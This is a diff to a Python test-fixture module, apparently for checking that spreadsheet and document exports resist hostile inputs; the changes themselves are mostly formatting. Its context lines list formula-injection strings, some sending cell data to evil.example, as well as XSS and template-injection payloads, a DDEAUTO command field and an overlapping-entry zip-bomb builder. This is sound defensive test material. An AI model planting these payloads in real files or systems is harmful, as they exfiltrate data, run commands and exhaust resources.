@@ -2,9 +2,8 @@
 
 import io
 import struct
-import zipfile
 import zlib
-from collections.abc import Callable, Mapping, Sequence
+from collections.abc import Mapping, Sequence
 from dataclasses import dataclass
 
 _NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
@@ -56,7 +55,7 @@ INJECTIONS = (
     "@SUM(1+9)*cmd|' /C calc'!A0",
     '=HYPERLINK("http://evil.example/"&A1,"点这里")',
     '=WEBSERVICE("http://evil.example/")',
-    "=IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")",
+    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
     "\t=1+1",
     "\r=1+1",
     "＝1+1",
@@ -66,11 +65,11 @@ INJECTIONS = (
 """Texts that a spreadsheet would run, were they written as anything but texts."""
 PAGE_INJECTIONS = (
     "<script>alert(1)</script>",
-    "\"><img src=x onerror=alert(1)>",
+    '"><img src=x onerror=alert(1)>',
     "'><svg/onload=alert(1)>",
-    "<a href=\"javascript:alert(1)\">x</a>",
+    '<a href="javascript:alert(1)">x</a>',
     "{{ 7*7 }}{% raw %}",
-    "]]><w:fldSimple w:instr=\"DDEAUTO c:\\\\a.exe\"/>",
+    ']]><w:fldSimple w:instr="DDEAUTO c:\\\\a.exe"/>',
     "http://evil.example/x",
     "\\\\evil\\share",
 )
@@ -103,9 +102,7 @@ def zipped(parts: Sequence[Part], *, comment: bytes = b"") -> bytes:
         at = out.tell() if part.at is None else part.at
         fields = (20, part.flags, part.method, 0, 0x21, crc, len(packed), size, len(part.name), 0)
         out.write(struct.pack("<4s5H3I2H", b"PK\3\4", *fields) + part.name + packed)
-        line = struct.pack(
-            "<4s6H3I5H2I", b"PK\1\2", 0x314, 20, *fields[1:9], 0, 0, 0, 0, part.mode << 16 & 0xFFFFFFFF, at
-        )
+        line = struct.pack("<4s6H3I5H2I", b"PK\1\2", 0x314, 20, *fields[1:9], 0, 0, 0, 0, part.mode << 16 & 0xFFFFFFFF, at)
         lines.append(line + part.name)
     start = out.tell()
     directory = b"".join(lines)
@@ -148,5 +145,3 @@ def overlapping(size: int = 4 << 20, copies: int = 30) -> bytes:
     one = Part(name=b"0.bin", packed=kernel, declared=size, crc=0)
     rest = [Part(name=f"{n}.bin".encode(), packed=b"", declared=size, crc=0, at=0) for n in range(1, copies)]
     return zipped([one, *rest])
-
-
